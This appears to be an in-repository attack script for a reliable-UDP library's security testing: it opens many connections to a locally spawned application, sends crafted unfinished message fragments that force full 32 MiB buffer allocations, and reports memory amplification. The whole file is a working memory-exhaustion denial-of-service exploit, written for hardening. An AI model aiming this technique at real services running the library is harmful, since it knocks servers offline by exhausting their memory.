/**
 * Attack round 6, angle (d): a hostile peer against a plain rudpx application with default
 * options (attack/plain-rudp-app.mjs: `listen()`, a 'message' listener that reads everything).
 * Each of CONNS connections from one host starts one message as large as the default receive
 * window allows (32 MiB less 256) and never finishes it: its last byte (on which the receiver
 * allocates the whole message), then a 1-byte fragment every STRIDE bytes (4096: every page of
 * that buffer made resident). Measures the application's RSS against the bytes the attacker sent.
 *
 * Run from the repository root after the build: `npx tsx attack/rudp-default-window.ts [conns=16] [stride=4096]`
 * Keep CONNS modest: each connection may cost the application 32 MiB (the default allows 1,024 a host).
 */
import { spawn } from 'node:child_process';
import { randomInt } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import type { Connection } from '../packages/rudp/src/core/connection.js';
import { Endpoint } from '../packages/rudp/src/core/endpoint.js';
import { formatAddress } from '../packages/rudp/src/core/sans-io.js';
import { nodeCryptoProvider } from '../packages/rudp/src/node/crypto-provider.js';
import { writeFragment } from '../packages/rudp/src/wire/frame.js';
import { craft } from './hostile.js';

const CONNS = Number(process.argv[2] ?? 16);
const STRIDE = Number(process.argv[3] ?? 4096);
const WINDOW = Number(process.env.WINDOW ?? 32 * 1024 * 1024);
const LENGTH = WINDOW - 256;
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
const rssMiB = (pid: number): number => +((Number(readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ')[21]) * 4096) / 2 ** 20).toFixed(1);

const main = async (): Promise<void> => {
  const app = spawn(process.execPath, [new URL('./plain-rudp-app.mjs', import.meta.url).pathname], { stdio: ['ignore', 'pipe', 'inherit'] });
  const hardStop = setTimeout(() => {
    app.kill('SIGKILL');
    process.exit(2);
  }, 180_000);
  let out = '';
  app.stdout.setEncoding('utf8').on('data', (s: string) => (out += s));
  while (!/port (\d+)/.test(out)) await sleep(50);
  const port = Number(/port (\d+)/.exec(out)![1]);
  const sock = createSocket('udp4');
  await new Promise<void>((r) => sock.bind(0, '127.0.0.5', () => r()));
  const ep = new Endpoint({ random: () => randomInt(2 ** 32), crypto: nodeCryptoProvider, keepAliveMs: 3000, idleTimeoutMs: 60_000 });
  let sent = 0;
  const pump = (): void => {
    const now = performance.now();
    while (ep.pollEvent());
    for (let t = ep.pollTransmit(now); t; t = ep.pollTransmit(now)) sock.send(t.data, port, '127.0.0.1');
  };
  sock.on('message', (b, from) => {
    ep.handleDatagram(performance.now(), new Uint8Array(b), formatAddress(from.address, from.port));
    pump();
  });
  const tick = setInterval(() => {
    ep.handleTimeout(performance.now());
    pump();
  }, 20);
  const conns: Connection[] = [];
  for (let i = 0; i < CONNS; i++) {
    conns.push(ep.connect(performance.now(), `127.0.0.1:${port}`));
    pump();
    await sleep(30);
  }
  for (let i = 0; i < 200 && !conns.every((c) => c.state === 'established'); i++) await sleep(50);
  await sleep(1000);
  const before = rssMiB(app.pid!);
  const one = new Uint8Array(1);
  const t0 = performance.now();
  for (const c of conns) {
    if (c.state !== 'established') continue;
    const send = (d: Uint8Array): void => {
      sent += d.length;
      sock.send(d, port, '127.0.0.1');
    };
    send(craft(c, 1200, (w) => writeFragment(w, 0, LENGTH, LENGTH - 1, one)));
    let off = 0;
    let n = 0;
    while (off < LENGTH - 1) {
      send(craft(c, 1200, (w) => {
        while (off < LENGTH - 1 && w.room() >= 21) {
          writeFragment(w, 0, LENGTH, off, one);
          off += STRIDE;
        }
      }));
      // Paced: a burst would overflow the application's socket buffer.
      if (++n % 40 === 0) await sleep(5);
    }
  }
  await sleep(3000);
  const after = rssMiB(app.pid!);
  const established = conns.filter((c) => c.state === 'established').length;
  console.log(
    JSON.stringify({
      connections: CONNS,
      stillEstablished: established,
      window: WINDOW,
      stride: STRIDE,
      attackerBytes: sent,
      attackSeconds: +((performance.now() - t0) / 1000).toFixed(1),
      appRssMiB: { before, after, added: +(after - before).toFixed(1) },
      mibPerConnection: +((after - before) / CONNS).toFixed(1),
      amplification: +(((after - before) * 2 ** 20) / Math.max(1, sent)).toFixed(0),
    }),
  );
  clearInterval(tick);
  clearTimeout(hardStop);
  app.kill('SIGKILL');
  sock.close();
};

void main().then(() => process.exit(0));
